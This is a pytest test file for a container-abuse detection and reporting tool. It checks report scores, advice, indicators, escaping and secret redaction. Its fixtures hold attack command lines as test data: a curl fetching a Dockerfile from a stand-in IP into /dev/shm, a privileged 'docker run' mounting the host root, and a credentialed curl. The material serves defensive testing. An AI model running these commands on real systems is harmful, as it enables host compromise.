"""What a report says, and that it says it whatever the events hold."""

from __future__ import annotations

import json
import os
import re
import shlex
from collections.abc import Iterable
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from attrs import evolve

from t1612core import AUTO, AllowList, Detector
from t1612core.cli.main import main
from t1612core.knowledge.response import BY_TAG, PHASES
from t1612core.observation import Link, Source
from t1612core.report import Collector, Report, Settings, collecting, hosts, html, indicators
from t1612core.report import markdown as md
from t1612core.report.content import Piece
from t1612core.report.marking import event_text, marked, shown
from t1612core.report.naming import named_by_chain
from t1612core.report.queries import advice, engines, occasions, queries, quoted
from t1612core.report.telling import NO_FINDINGS, certainty, first_things, how_sure, no_findings
from t1612core.report.tree import tree
from t1612core.stream.account import Account, Stream, Value, counted
from t1612core.text.cutting import GAP

from ..conftest import ROOT
from ..output.hostile import HTML, events

Event = dict[str, Any]
ATTACK = ROOT / "examples" / "attack.jsonl"


def rows(path: Path) -> list[Event]:
    return [
        record
        for line in path.read_text("utf-8").splitlines()
        for value in [json.loads(line)]
        for record in value.get("records", [value])
    ]


def report_of(
    given: Iterable[Event], allowlist: AllowList | None = None, **settings: Any
) -> Report:
    """Make a report of events that are handed over."""
    detector = Detector(schema=AUTO, allowlist=allowlist)
    collector = Collector(detector, Settings(**settings))
    problems: list[str] = []
    stream = Stream(lambda rejected: problems.append(rejected.reason), schema=AUTO)
    values = stream.values(Value(at, each) for at, each in enumerate(given, 1))

    def see(event: Any, *, kind: Any) -> Any:
        return collector.see(event, kind, Source("events", stream.line))

    seen: Any = stream.each(detector.unwrap(values), detector.locate, see)
    collector.join(step for steps in seen for step in steps)
    return collector.report(stream.account, problems=problems)


def later(event: Event, second: int, **more: Any) -> Event:
    return {**event, "TimeGenerated": f"2026-03-04T02:11:{second:02}Z", **more}


BUILD, RUN = events("x")[1:]
FILE = events("x")[0]


class Texts(HTMLParser):
    """The texts and tags of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.data: list[str] = []
        self.feed(page)
        self.text = "".join(self.data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.data.append(data)


def test_the_attack_of_the_examples_is_told_from_the_top() -> None:
    report = report_of(rows(ATTACK))

    assert ("malicious", "high", 35) == (report.verdict, report.severity, report.score)
    headline = "Most likely an attack: an image was built and started on shop-web-2."
    assert headline == report.headline
    assert (3, 1, 1) == (report.findings_found, report.chains_found, report.hosts_found)
    (part,) = report.incidents
    assert (2, 1, 3, 0) == part.findings  # the start alone is no finding
    assert [14, 11, 3] == [row.score for row in report.findings]
    assert {"hold", "confirm", "preserve", "contain", "eradicate", "recover"} == {
        each.action.phase for each in report.advice
    }
    called = {each.action.occasion for each in report.advice}
    assert called >= {"started", "host_power", "host_container", "egress", "file", "service"}
    assert {"always", "tag"} == called - {
        *("started", "host_power", "host_container", "egress", "file", "service")
    }
    told = {(each.kind, each.value) for each in report.indicators}
    assert ("address", "198.51.100.23") in told
    assert ("url", "http://198.51.100.23/d") in told
    assert ("path", "/dev/shm/.x/Dockerfile") in told
    assert ("image", "alpine:3") in told
    (host,) = report.hosts
    assert ("shop-web-2", 35, 3, 1) == (host.host, host.score, host.findings, host.chains)
    assert 1 == {row.signal: row.findings for row in report.signals}["process.temp_source"]


def test_the_processes_are_one_tree_with_the_findings_in_it() -> None:
    (part,) = report_of(rows(ATTACK)).incidents

    def flat(nodes: Any, depth: int = 0) -> list[tuple[int, str, int]]:
        return [
            told
            for node in nodes
            for told in [
                (depth, "".join(piece.text for piece in node.text), node.finding),
                *flat(node.below, depth + 1),
            ]
        ]

    assert [
        (0, "sh", 0),
        (1, "curl -so /dev/shm/.x/Dockerfile http://198.51.100.23/d", 2),
        (0, "php-fpm8.2", 0),
        (1, "sh", 0),
        (2, "docker build --no-cache -q -t alpine:3 /dev/shm/.x/", 1),
        (2, "docker run -d --restart=always --privileged --pid=host -v /:/mnt alpine:3", 0),
        (0, "dockerd", 3),
    ] == flat(part.tree)


def test_what_has_rights_on_the_host_is_held_first() -> None:
    pause = "docker ps --no-trunc --filter ancestor=alpine:3"
    what = "Pause the container and isolate the host: what was started has rights on the host."
    report = report_of(rows(ATTACK))

    assert (what, pause, BY_TAG) == first_things(report)[0]
    text, page = md.write(report), Texts(html.write(report))
    assert f"* Do first: {what} `{pause}` {BY_TAG}\n" in text
    assert f"{what}{pause}{BY_TAG}Ask whether" in page.text
    phases = [each.action.phase for each in report.advice]
    assert phases == sorted(phases, key=[*PHASES].index)
    plain = report_of([later(BUILD, 1), later(RUN, 5, ProcessCommandLine="docker run x:1")])
    assert "confirm" == plain.advice[0].action.phase


def test_what_holds_a_container_names_it_where_it_is_known() -> None:
    def first(**named: str) -> list[str]:
        (held, *_) = advice({"host_container"}, named, NOON, NOON, {"docker"})
        return [line for _, line in held.commands]

    assert ["docker pause web-1"] == first(container="web-1", image="x:1")
    assert ["docker ps --no-trunc --filter ancestor=x:1"] == first(image="x:1")
    assert ["docker pause CONTAINER"] == first(image="$(x)")


def test_a_command_by_a_tag_says_that_a_tag_can_be_moved() -> None:
    def notes(image: str, *more: Any) -> set[str]:
        told = advice({"always", "host_container", *more}, {"image": image}, NOON, NOON, {"docker"})
        by_image = [each for each in told if any(image in line for _, line in each.commands)]
        assert len(by_image) > 3
        assert not any(each.note for each in told if each not in by_image)
        return {each.note for each in by_image if each.action.occasion != "tag"}

    assert {BY_TAG} == notes("x:1", "tag")
    assert {""} == notes(f"sha256:{'a' * 64}")
    named = advice({"host_container", "tag"}, {"image": "x:1", "container": "web-1"}, NOON, NOON)
    assert "" == named[0].note  # it goes by the container
    unknown = advice({"always", "tag"}, {"image": "$(x)"}, NOON, NOON)
    assert not any(each.note for each in unknown)  # IMAGE stands there


DEPLOY = "docker run -d --name prod-db --privileged postgres:15"


def named_in(*lines: str, **more: Any) -> str:
    """Give the ticket of these commands, one after the other on one host."""
    given = [later({**BUILD, "ProcessCommandLine": line}, at, **more)
             for at, line in enumerate(lines, 1)]  # fmt: skip
    report = report_of(given)
    assert 1 == len(report.incidents)
    return md.write(report)


def test_what_was_started_is_named_by_its_container() -> None:
    told = named_in("docker build -t postgres:15 /dev/shm/.x", DEPLOY)

    assert "`docker pause prod-db`\n" in told
    for line in ("pause prod-db", "export -o EVIDENCE/docker-files.tar prod-db", "rm -f prod-db"):
        assert f"       docker {line}\n" in told
    assert "docker inspect --format '{{.Image}}' prod-db\n" in told
    assert "docker save -o EVIDENCE/docker-image.tar postgres:15\n\n   By a tag, which may" in told


def test_a_container_that_gets_another_name_is_told_by_that() -> None:
    told = named_in("docker build -t x/y:1 /dev/shm/.x", "docker run --name a --privileged x/y:1",
                    "docker rename a b", "docker create --name c x/y:1")  # fmt: skip

    assert "`docker pause b`\n" in told


def test_an_image_is_named_by_its_id_where_that_was_told() -> None:
    id = f"sha256:{'0a' * 32}"
    told = named_in("docker build -t x/y:1 /dev/shm/.x", f"docker run --privileged {id}")

    assert f"docker save -o EVIDENCE/docker-image.tar {id}\n" in told
    assert f"docker ps --no-trunc --filter ancestor={id}`\n" in told
    assert BY_TAG not in told
    assert "Find the id of the image" not in told


def test_a_start_with_rights_is_named_before_others_and_no_stranger_is() -> None:
    build = "docker build -t x/y:1 /dev/shm/.x"
    first = "docker run --name plain x/y:1"
    assert "`docker pause b`" in named_in(build, first, "docker run --name b --privileged x/y:1")
    assert "docker pause plain\n" in named_in(build, first)
    step = report_of([later(BUILD, 1), later(RUN, 5)]).incidents[0].incident
    started = evolve(
        step.steps[1], signals=(), links=(Link("container", "stranger", is_made=True),)
    )
    near = evolve(step, steps=(step.steps[0], started),
                  joins=(evolve(step.joins[0], kind="near", value=""),))  # fmt: skip
    assert "container" not in named_by_chain(near)
    assert "stranger" == named_by_chain(evolve(near, joins=step.joins))["container"]


def test_each_chain_has_the_commands_that_name_its_own() -> None:
    text = ATTACK.read_text("utf-8")
    both = text + text.replace("shop-web-2", "shop-web-9").replace("alpine:3", "other:9")
    report = report_of(json.loads(line) for line in both.splitlines())
    page, told = html.write(report), md.write(report)

    for part, image in zip(report.incidents, ("alpine:3", "other:9"), strict=True):
        lines = [line for each in part.advice for _, line in each.commands]
        assert f"docker save -o EVIDENCE/docker-image.tar {image}" in lines
    assert report.advice == report.incidents[0].advice
    assert "docker rmi other:9" in page
    assert '<summary>The same for chain 2, on <bdi dir="ltr">shop-web-9</bdi></summary>' in page
    assert "The names in it are those of chain 1, on shop-web-2, which is the worst." in told
    assert "* Do first, on `shop-web-2`: Pause the container" in told
    alone = md.write(report_of(rows(ATTACK)))
    assert "The names in it" not in alone
    assert "* Do first: Pause" in alone


def test_who_started_it_stands_at_the_top() -> None:
    report = report_of(rows(ATTACK))
    assert "* Started by: `php-fpm8.2` → `sh`\n" in md.write(report)
    assert "<dt>Started by</dt><dd>php-fpm8.2 → sh</dd>" in html.write(report)
    bare = {key: value for key, value in BUILD.items() if not key.startswith("Initiating")}
    assert "Started by" not in md.write(report_of([bare]))


def test_a_step_that_is_neither_finding_nor_in_a_chain_is_told() -> None:
    (start,) = (each for each in rows(ATTACK) if "docker run" in str(each))
    report = report_of([start])

    assert (0, 0) == (report.findings_found, report.chains_found)
    (step,) = report.lone_steps
    assert "docker run -d --restart=always --privileged" in step.detail
    assert "No finding and no chain in 1 event; 1 step below the threshold is told below." == (
        report.headline
    )
    for page in (html.write(report), md.write(report)):
        assert "docker run -d --restart=always --privileged" in page
    assert () == report_of(rows(ATTACK)).lone_steps
    many = [{**start, "n": number} for number in range(25)]
    told = md.write(report_of(json.loads(json.dumps(many))))
    assert "5 more, of no higher scores, are counted and not listed." in told


def test_of_what_signals_saw_as_much_is_shown_as_there_is_room() -> None:
    finding = Detector().find(BUILD, "process")
    assert finding is not None
    item = finding.evidence[0]
    text = "".join(f"{number:04}{'-' * 196}" for number in range(30))
    seen = [
        evolve(item, text=text[at : at + 200], span=(at, at + 200)) for at in range(0, 6000, 200)
    ]
    shown_parts = "".join(piece.text for piece in marked(text, [seen[5], seen[10], seen[12]]))
    assert "0005-" in shown_parts
    assert "0010-" not in shown_parts
    near = "".join(
        piece.text for piece in marked(text, [evolve(seen[2], span=(390, 410), text=text[390:410])])
    )
    assert 1 == near.count(GAP)


def test_a_name_in_quotes_is_another_reading_of_it() -> None:
    named = indicators.Indicators()
    (step,) = Detector().observe(
        {"FileName": "docker", "ProcessCommandLine": "docker build -t x:1 /dev/shm/x"}
    )
    for value in ("'e:1'", "e:1", '"e:1"', "'"):
        named.meet(evolve(step, score=2, links=(Link("image", value, True),)))
    assert {("e:1", 3), ("'", 1)} == {(each.value, each.times) for each in named.best(9)}


def test_what_nothing_joins_is_named_by_the_steps() -> None:
    (part,) = report_of([later(BUILD, 1), later(RUN, 5)]).incidents
    alone = evolve(part.incident, joins=(), steps=part.incident.steps[:1])

    assert {"image": "x:1", "path": "/dev/shm/x/D"} == named_by_chain(alone)
    assert {} == named_by_chain(evolve(alone, steps=(evolve(alone.steps[0], links=()),)))
    changed = evolve(alone.steps[0], links=(Link("container", "c"),))
    assert {"container": "c"} == named_by_chain(evolve(alone, steps=(changed,)))


def test_the_last_action_leads_to_the_queries_that_the_report_has() -> None:
    report = report_of(rows(ATTACK))
    page, text = html.write(report), md.write(report)
    products = "Microsoft Defender XDR, Splunk, Elastic, CrowdStrike LogScale"

    assert f'{products} stand under <a href="#indicators">What to look for elsewhere</a>.' in page
    assert f"Queries for {products} stand under *What to look for elsewhere*.\n" in text
    for told in (html.write(bare := evolve(report, elsewhere=())), md.write(bare)):
        assert "Search the other hosts" in told
        assert "stand under" not in told


def test_what_could_not_be_told_stands_in_the_bottom_line() -> None:
    report = report_of(rows(ATTACK))
    page, text = Texts(html.write(report)).text, md.write(report)
    (row,) = [row for row in report.findings if row.not_evaluable]
    number = len(row.not_evaluable)
    told = "what the Dockerfile says, for no event holds its text: keep the file"

    assert f"Not evaluable{told}" in page
    assert f"\n* Not evaluable: {told}" in text
    bare = {key: value for key, value in BUILD.items() if not key.startswith("Initiating")}
    missing = counted(len(report_of([bare]).findings[0].not_evaluable), "signal")
    other = f"* Not evaluable: {missing}, in 1 of 1"
    assert f"{other} finding listed: the events have none of the fields" in md.write(
        report_of([bare])
    )
    assert f"\n* Finding {row.number} has {number} signals not evaluable: `dockerfile." in text
    alike = md.write(evolve(report, findings=(row, evolve(row, number=9))))
    assert f"\n* Findings {row.number}, 9 have {number} signals not evaluable: " in alike
    whole = evolve(report, findings=tuple(evolve(each, not_evaluable=()) for each in
                                          report.findings))  # fmt: skip
    for told in (html.write(whole), md.write(whole)):
        assert "ot evaluable" not in told


def test_evidence_is_told_with_its_text_and_its_place() -> None:
    report = report_of([BUILD])
    finding = Detector().score(BUILD)
    assert finding is not None
    (item,) = [each for each in finding.evidence if each.signal.id == "process.temp_source"]
    assert item.span is not None
    start, end = item.span

    assert (
        f"| 1 | +{item.weight} | `process.temp_source` | `command_line` | `{item.text}` | "
        f"{start}-{end} |\n" in md.write(report)
    )
    assert f"{item.text}{start}-{end}" in Texts(html.write(report)).text
    network = [each for each in rows(ATTACK) if "Network" in each["category"]]
    assert "| `port` | `8080` |  |\n" in md.write(report_of(network))


def test_a_container_with_rights_that_one_line_tells_of_is_held() -> None:
    line = "sh -c 'docker build -t x:1 /dev/shm/.x && docker run --privileged x:1'"
    at = {"FileName": "sh", "ProcessCommandLine": line, "TimeGenerated": None}
    report = report_of([{**BUILD, **at}])

    assert () == report.incidents
    assert "hold" in {each.action.phase for each in report.advice}


@pytest.mark.parametrize(
    ("seen", "expected"),
    [
        ("/usr/bin/docker build .", {"docker"}),
        ("Docker.EXE build .", {"docker"}),
        ("curl --unix-socket /run/podman/podman.sock http://d/build", {"podman"}),
        ("buildah bud . && nerdctl run x", {"podman", "containerd"}),
        ("kaniko-executor; ls /tmp/dockerish", set()),
    ],
)
def test_the_engines_that_were_seen_are_told_by_their_names(seen: str, expected: set[str]) -> None:
    assert expected == engines([seen])


def test_commands_are_those_of_the_engine_that_was_seen() -> None:
    def spoken(seen: Any) -> set[str]:
        told = advice({"always", "started", "host_container", "api"}, {}, NOON, NOON, seen)
        return {tool for each in told for tool, _ in each.commands}

    both = {"journalctl", "ss", "t1612"}
    assert both | {"docker", "find"} == spoken({"docker"})
    assert both | {"podman"} == spoken({"podman"})
    assert both | {"nerdctl", "ctr"} == spoken({"containerd"})
    assert both | {"docker", "podman", "nerdctl", "ctr", "find"} == spoken(())
    report = report_of(rows(ATTACK))
    assert not re.search(r"^ +(?:podman|ctr|nerdctl) ", md.write(report), re.MULTILINE)


def test_a_ticket_tells_who_and_by_which_processes() -> None:
    text = md.write(report_of(rows(ATTACK)))

    assert "\n* Who: `www-data`\n" in text
    assert "\n* Accounts: `www-data`\n" in text
    assert "\n    * `docker build --no-cache -q -t alpine:3 /dev/shm/.x/` (finding 1)\n" in text
    assert "\n* `php-fpm8.2`\n  * `sh`\n" in text
    alone = md.write(report_of([FILE]))
    assert "\n* Who: `x`\n" in alone
    assert "Processes, each" not in md.write(report_of([later(BUILD, 1), later(RUN, 5)], findings=1,
                                                       least=99))  # fmt: skip


def test_each_step_of_a_chain_stands_among_the_findings_or_below_them() -> None:
    report = report_of(rows(ATTACK))
    (part,) = report.incidents

    assert [(1, 4)] == [(chain, step) for chain, step, _ in no_findings(report)]
    assert len(part.incident.steps) == report.findings_found + len(no_findings(report))
    assert NO_FINDINGS in Texts(html.write(report)).text
    assert "| chain 1, step 4 | 3 | deploy | 2026-03-04 02:12:15 | `www-data` | `docker run" in (
        md.write(report)
    )
    assert NO_FINDINGS not in html.write(report_of([BUILD]))


def test_a_score_is_shown_with_all_that_adds_up_to_it() -> None:
    report = report_of(rows(ATTACK))
    (part,) = report.incidents
    told = (
        "35 = 14 the build (step 2), +11 what was prepared (step 1), +1 tied by the same path "
        "(step 1), +3 what it fetched (step 3), +1 tied by nothing but the time (step 3), +3 what "
        "was started (step 4), +2 tied by the same image (step 4)"
    )

    assert told in Texts(html.write(report)).text
    assert f"* Score {told}" in md.write(report)
    assert part.incident.score == sum(term.points for term in part.incident.terms)


def test_how_sure_says_what_raises_and_what_lowers_it() -> None:
    report = report_of(rows(ATTACK))

    assert how_sure(report).startswith(
        "high. What raises it: the build is suspicious by itself; what was prepared is tied to "
        "the build by the same path; "
    )
    assert how_sure(report).endswith(
        " What lowers it: what it fetched is tied to the build by nothing but the time."
    )
    (part,) = report.incidents
    bare = evolve(part.incident, confidence_reasons=(), doubts=())
    assert "high." == certainty(bare)
    (row,) = (alone := report_of([FILE])).findings
    less = evolve(row.reasons[0], weight=-1, title="Somebody's daily work")
    assert how_sure(alone).startswith(f"{row.confidence}. What raises it: {row.reasons[0].title}")
    relieved = evolve(alone, findings=(evolve(row, reasons=(*row.reasons, less)),))
    assert how_sure(relieved).endswith(". What lowers it: Somebody's daily work.")


def test_a_tree_is_bounded() -> None:
    many = [
        later(
            BUILD,
            1,
            InitiatingProcessCommandLine=f"sh {n}",
            ProcessCommandLine=f"docker build -t x:{n} /dev/shm/x",
        )
        for n in range(150)
    ]
    rows_of_all = report_of(many).findings
    nodes = tree([((), 1), *((row.lineage, row.number) for row in rows_of_all)])

    def size(of: Any) -> int:
        return sum(1 + size(each.below) for each in of)

    assert 200 == size(nodes)


def test_equal_events_make_equal_pages() -> None:
    one, other = report_of(rows(ATTACK)), report_of(rows(ATTACK))

    assert html.write(one) == html.write(other)
    assert md.write(one) == md.write(other)


def test_nothing_found_is_green_only_where_all_was_understood() -> None:
    quiet = {"Type": "DeviceProcessEvents", "FileName": "ls", "ProcessCommandLine": "ls"}
    whole = report_of([quiet])
    part = report_of([quiet, {"Type": "DeviceProcessEvents", "FileName": 7}])
    nothing = report_of([])

    assert ("none", "Nothing was found in 1 event.") == (whole.verdict, whole.headline)
    assert "unknown" == part.verdict
    assert "Nothing was found in what was understood, and not everything was." == part.headline
    assert ("unknown", "Nothing can be said: no event was understood.") == (
        nothing.verdict,
        nothing.headline,
    )
    assert "Not everything was understood" in html.write(part)
    assert "Not everything was understood" in md.write(part)
    assert "Not everything was understood" not in html.write(whole)
    assert () == whole.advice


def test_a_page_that_can_say_nothing_says_why_and_ends_with_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "events.jsonl"

    def page(*given: Event) -> tuple[int, str]:
        source.write_text("\n".join(map(json.dumps, given)), "utf-8")
        code = main(["report", "--format", "md", str(source)])
        return code, capsys.readouterr().out

    program: Event = {"Type": "DeviceProcessEvents", "DeviceName": "a", "FileName": "docker"}
    line = {**program, "ProcessCommandLine": "docker ps"}
    login: Event = {"Type": "SigninLogs"}

    code, told = page(program, program)
    assert 3 == code
    assert "**Nothing was found in what was understood, and not everything was.**" in told
    assert "* no command line in 2 process events, and most builds show in nothing else" in told
    code, told = page(login)
    assert 3 == code
    assert "**Nothing can be said: no event is of a kind that is scored.**" in told
    assert 0 == page(program, line, login)[0]
    code, told = page(program, FILE)
    assert (1, True) == (code, "* no command line in 1 process event, " in told)


def test_a_finding_alone_is_told_with_its_queries() -> None:
    report = report_of([FILE])

    assert "Most likely an attack: suspicious Dockerfile written on webx." == report.headline
    assert () == report.incidents
    spoken = {each.language for each in report.queries}
    assert {"KQL", "SPL", "ES|QL", "EQL", "LogScale"} == spoken
    (tar,) = [line for each in report.advice for tool, line in each.commands if tool == "tar"]
    assert tar.endswith(" /dev/shm/x")
    page, text = html.write(report), md.write(report)
    assert "suspicious Dockerfile written" in page
    assert "## What to do next" in text


def test_a_finding_alone_fills_in_what_it_names() -> None:
    line = "docker build -q -t shop/w:1 -f /dev/shm/.c/Dockerfile /dev/shm/.c"
    event = {"Type": "DeviceProcessEvents", "FileName": "docker", "ProcessCommandLine": line,
             "InitiatingProcessFileName": "nginx", "DeviceName": "h"}  # fmt: skip
    told = md.write(report_of([event]))

    assert "docker save -o EVIDENCE/docker-image.tar shop/w:1\n" in told
    assert "-cpf EVIDENCE/context.tar /dev/shm/.c\n" in told
    assert "docker rmi shop/w:1\n" in told


@pytest.mark.parametrize(
    ("folder", "name", "kept"),
    [
        ("/dev/shm/.c", "Dockerfile", "/dev/shm/.c"),
        ("/dev/shm/.c", "app.dockerfile", "/dev/shm/.c"),
        ("/tmp", "Dockerfile", "/tmp/Dockerfile"),  # what everybody writes to
        ("", "Dockerfile", "Dockerfile"),
    ],
)
def test_of_a_dockerfile_its_directory_is_kept(folder: str, name: str, kept: str) -> None:
    event = {"Type": "DeviceFileEvents", "ActionType": "FileCreated", "FileName": name,
             "FolderPath": f"{folder}/{name}" if folder else "", "DeviceName": "h",
             "InitiatingProcessFileName": "nginx"}  # fmt: skip
    told = md.write(report_of([event]))

    assert f"EVIDENCE/context.tar {kept}\n" in told, told


def test_a_connection_alone_has_its_occasion() -> None:
    report = report_of([each for each in rows(ATTACK) if "Network" in each["category"]])

    assert {"always", "egress"} == {each.action.occasion for each in report.advice}
    assert "To be looked at" in report.headline


def test_what_an_event_does_not_tell_is_left_out() -> None:
    bare = {"Type": "DeviceProcessEvents", "FileName": "docker", "ProcessId": 7,
            "ProcessCommandLine": "docker build --no-cache /dev/shm/.x"}  # fmt: skip
    (row,) = report_of([bare]).findings
    page = html.write(report := report_of([bare]))

    assert (None, 1) == (row.time, len(row.lineage))
    assert (None, None) == (report.first, report.last)
    assert "none told" in page
    assert "Processes, the eldest first" not in page
    assert 0 < len(row.not_evaluable)
    assert f"{len(row.not_evaluable)} signals not evaluable, since the event has none" in page


def test_only_what_was_named_is_an_indicator() -> None:
    named = indicators.Indicators()
    finding = Detector().score(BUILD)
    assert finding is not None
    (step, *_) = Detector().observe(BUILD)
    named.meet(evolve(step, score=0))
    assert 0 == named.found
    links = (Link("process", "7@2026"), Link("image", ""), Link("image", "a:1"))
    named.meet(evolve(step, score=2, links=links))
    assert [("image", "a:1")] == [(each.kind, each.value) for each in named.best(9)]


def test_a_host_without_a_name_is_said_so() -> None:
    alone = {**BUILD, "DeviceName": ""}
    report = report_of([alone])
    assert report.headline.endswith("on a host without a name.")
    assert () == report.queries
    assert "(no name)" in html.write(report)
    assert "(no name)" in md.write(report)

    chain = report_of([later(alone, 1), later({**RUN, "DeviceName": ""}, 5)])
    assert chain.headline.endswith("on a host without a name.")
    assert "(a host without a name)" in html.write(chain)


def test_what_an_allow_list_took_is_shown_apart() -> None:
    allowlist = AllowList.loads(
        """
        version = 1

        [[entry]]
        id = "known"
        reason = "the pipeline of | web"
        owner = "<b>me</b>"
        created = 2026-01-01
        expires = 2026-06-01
        kinds = ["process"]
        match = [
          { field = "host", op = "equals", value = "webx" },
          { field = "command_line", op = "glob", value = "*x:1*" },
        ]
        effect = { action = "suppress" }

        [[entry]]
        id = "less"
        reason = "seen daily"
        owner = "me"
        created = 2026-01-01
        expires = 2026-06-01
        kinds = ["process"]
        match = [
          { field = "host", op = "equals", value = "other" },
          { field = "command_line", op = "glob", value = "*x:1*" },
        ]
        effect = { action = "subtract", points = 1 }
        """
    ).on(datetime(2026, 3, 4, tzinfo=UTC).date())
    mild = {
        **BUILD,
        "ProcessCommandLine": "docker build --no-cache -t x:1 /tmp/x",
        "InitiatingProcessFileName": "sh",
        "InitiatingProcessCommandLine": "sh",
        "InitiatingProcessParentFileName": "bash",
    }
    report = report_of([mild, {**mild, "DeviceName": "other"}], allowlist)

    assert {"known": 1, "less": 1} == dict(report.entries)
    assert (1, 1) == (report.findings_found, report.suppressed_found)
    (row,) = report.findings
    assert row.score_before - 1 == row.score
    assert "less takes 1 points: seen daily (me, until 2026-06-01)" in row.allowances
    (taken,) = report.suppressed
    assert "known" == taken.suppressed_by
    assert "known suppresses it: the pipeline of | web (<b>me</b>, until 2026-06-01)" in (
        taken.allowances
    )
    page = Texts(html.write(report))
    assert "What the allow-list took" in page.text
    assert "b" not in page.tags
    assert f"score {row.score} of {row.score_before}" in page.text
    assert "1 suppressed" in md.write(report)
    assert "suppressed-table" not in html.write(evolve(report, suppressed=()))


def test_an_entry_that_may_hide_nothing_is_told() -> None:
    text = (ROOT / "examples" / "tuning.toml").read_text("utf-8")
    allowlist = AllowList.loads(text).on(datetime(2026, 3, 4, tzinfo=UTC).date())
    given = rows(ROOT / "examples" / "attack.jsonl")
    told = [line for row in report_of(given, allowlist).findings for line in row.allowances]

    assert any(line.startswith("not suppressed: no entry may hide ") for line in told)


def test_the_worst_is_listed_and_the_rest_is_counted() -> None:
    given = [
        later(event, at, DeviceName=f"host-{number}")
        for number in range(12)
        for at, event in ((1, BUILD), (5, RUN))
    ]
    report = report_of(given, findings=3, chains=2)
    page = html.write(report)

    assert 12 == report.findings_found
    assert (3, 2, 12) == (len(report.findings), len(report.incidents), report.chains_found)
    assert "9 of 12 findings, of no higher scores, are counted and not listed here. With" in page
    assert "--findings N lists more here, and t1612 scan --format table lists all." in page
    assert "10 more chains, of lower scores, are counted and not shown." in page
    assert " and 7 more" in page
    assert " and 7 more" in md.write(report)


def test_a_ticket_lists_twenty() -> None:
    given = [{**BUILD, "DeviceName": f"host-{number}"} for number in range(25)]
    text = md.write(report_of([*given, given[-1]], findings=22))

    assert (
        "\n6 of 26 findings, of no higher scores, are counted and not listed here. With the same "
        "input and options `t1612 report -o report.html` has them" in text
    )
    assert 20 == text.count("| +4 | `process.web_server_lineage` |")
    assert "not listed here" not in md.write(report_of(given[:20]))


def test_findings_that_repeat_are_one_row_with_a_count() -> None:
    report = report_of([later(BUILD, 1), later(BUILD, 40)])
    (row,) = report.findings

    assert (2, 1, 40) == (row.count, row.time and row.time.second, row.last and row.last.second)
    assert "2026-03-04 02:11:01 to 2026-03-04 02:11:40, 2 times" in html.write(report)


def test_a_score_below_the_least_does_not_count() -> None:
    report = report_of(rows(ATTACK), least=12)

    assert [14] == [row.score for row in report.findings]


def test_hosts_and_indicators_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hosts, "_MOST", 3)
    monkeypatch.setattr(indicators, "_MOST", 4)
    monkeypatch.setattr(indicators, "_MOST_HOSTS", 1)
    monkeypatch.setattr(collecting, "_SHOWN", 2)
    given = [
        {**FILE, "DeviceName": f"host-{number}", "FolderPath": f"/dev/shm/{number}/Dockerfile"}
        for number in range(9)
    ]
    report = report_of([*given, given[0], {**given[0], "DeviceName": "host-1"}])
    page = html.write(report)

    assert 4 == report.hosts_found  # three, and the others together
    assert (2, 2) == (len(report.hosts), len(report.indicators))
    assert report.indicators_found >= 9
    assert "the worst 2 are listed" in page
    assert f"2 of {report.indicators_found} are listed" in page


def test_steps_that_no_chain_can_have_are_a_problem() -> None:
    report = report_of([{**RUN, "TimeGenerated": None}])

    assert ("1 step that no chain can have: without a time",) == report.problems
    assert (
        "unknown"
        == report_of([{**RUN, "ProcessCommandLine": "docker run x", "TimeGenerated": 0}]).verdict
    )


def test_a_step_that_is_repeated_or_suppressed_says_so() -> None:
    (part,) = (report := report_of([later(BUILD, 1), later(RUN, 5)])).incidents
    steps = tuple(
        evolve(step, repeated=1200, suppressed_by="known") for step in part.incident.steps
    )
    changed = evolve(part, incident=evolve(part.incident, steps=steps, forgotten=2, accounts=()))
    page = html.write(evolve(report, incidents=(changed,)))

    assert "and 1,200 times more" in page
    assert "suppressed by known" in page
    assert "2 steps more are not drawn." in page
    assert "none told" in page


def test_findings_that_are_not_listed_leave_the_page_whole() -> None:
    report = evolve(report_of(rows(ATTACK)), incidents=(), findings=())
    page = html.write(report)

    assert "the findings are not listed" in page


@pytest.mark.parametrize("attack", HTML)
def test_no_text_of_an_event_becomes_markup(attack: str) -> None:
    report = report_of(events(attack), title=attack)
    page = html.write(report)
    seen, calm = Texts(page), Texts(html.write(report_of(events("x"), title="x")))

    page.encode("utf-8")  # no half of a pair is left
    assert set(calm.tags) >= set(seen.tags)
    assert calm.attributes >= seen.attributes
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e\u200b\ufeff]", page)
    # Whole lines of a ticket are ours: none begins as an event would like it to.
    text = md.write(report)
    text.encode("utf-8")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e\u200b\ufeff]", text)
    inner = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)  # without spans of code
    inner = re.sub(r"\\.", "", inner)
    inner = re.sub(r"(?m)^ {4}.*$", "", inner)  # and without blocks of it
    assert not re.search(r"<(?!br)|\]\(|https?://|www\.evil|(?m:^```)", inner)


def test_secrets_are_in_neither_form() -> None:
    secret = "hunter2hunter2"
    event = {
        **BUILD,
        "ProcessCommandLine": f"docker build --build-arg TOKEN={secret} -t x:1 /dev/shm/.x",
        "InitiatingProcessCommandLine": f"sh -c 'curl -u me:{secret} https://203.0.113.5/x'",
        "More": {"password": secret, "list": [f"Authorization: Bearer {secret}"]},
    }
    report = report_of([event, later(RUN, 9)])

    assert secret not in html.write(report)
    assert secret not in md.write(report)


def test_an_event_is_shown_whatever_it_holds() -> None:
    deep: Any = "x"
    for _ in range(40):
        deep = {"a": deep}
    event: dict[Any, Any] = {
        "text": "a" * 5000,
        "many": list(range(500)),
        "deep": deep,
        "time": datetime(2026, 3, 4, tzinfo=UTC),
        "other": object(),
        7: {"b": None},
        **{f"key-{number}": number for number in range(400)},
    }
    told = event_text(event)

    assert len(told) == 6000 + len(GAP)
    assert told[4500:].startswith(GAP)
    assert "2026-03-04T00:00:00+00:00" in event_text({"time": event["time"]})
    assert '"… object"' in event_text({"other": object()})


def test_what_signals_saw_is_marked_where_it_stands() -> None:
    (row,) = report_of([BUILD]).findings
    seen = [piece.text for piece in row.detail if piece.is_match]

    assert "--no-cache" in seen
